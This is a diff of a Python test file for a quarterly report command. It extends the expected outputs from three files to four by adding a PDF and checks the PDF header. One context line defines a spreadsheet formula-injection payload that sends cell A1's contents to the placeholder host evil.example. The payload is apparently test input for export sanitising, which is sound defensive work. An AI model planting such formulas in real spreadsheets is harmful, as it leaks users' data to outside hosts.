@@ -159,7 +159,7 @@ def _config(tmp_path: Path, database: str) -> Path:
     return config
 
 
-def test_report_command_line_writes_the_three_files(
+def test_report_command_line_writes_the_four_files(
     database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     config = _config(tmp_path, database)
@@ -169,8 +169,12 @@ def test_report_command_line_writes_the_three_files(
 
     assert printed.startswith("Bilan T4 2026 : 6 promeneur(s)")
     names = sorted(p.name for p in out.iterdir())
-    assert names == ["bilan-pdn-2026-Q4.csv", "bilan-pdn-2026-Q4.png", "bilan-pdn-2026-Q4.xlsx"]
+    assert names == [
+        "bilan-pdn-2026-Q4.csv", "bilan-pdn-2026-Q4.pdf", "bilan-pdn-2026-Q4.png",
+        "bilan-pdn-2026-Q4.xlsx",
+    ]  # fmt: skip
     assert (out / "bilan-pdn-2026-Q4.png").read_bytes()[:4] == b"\x89PNG"
+    assert (out / "bilan-pdn-2026-Q4.pdf").read_bytes()[:5] == b"%PDF-"
 
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
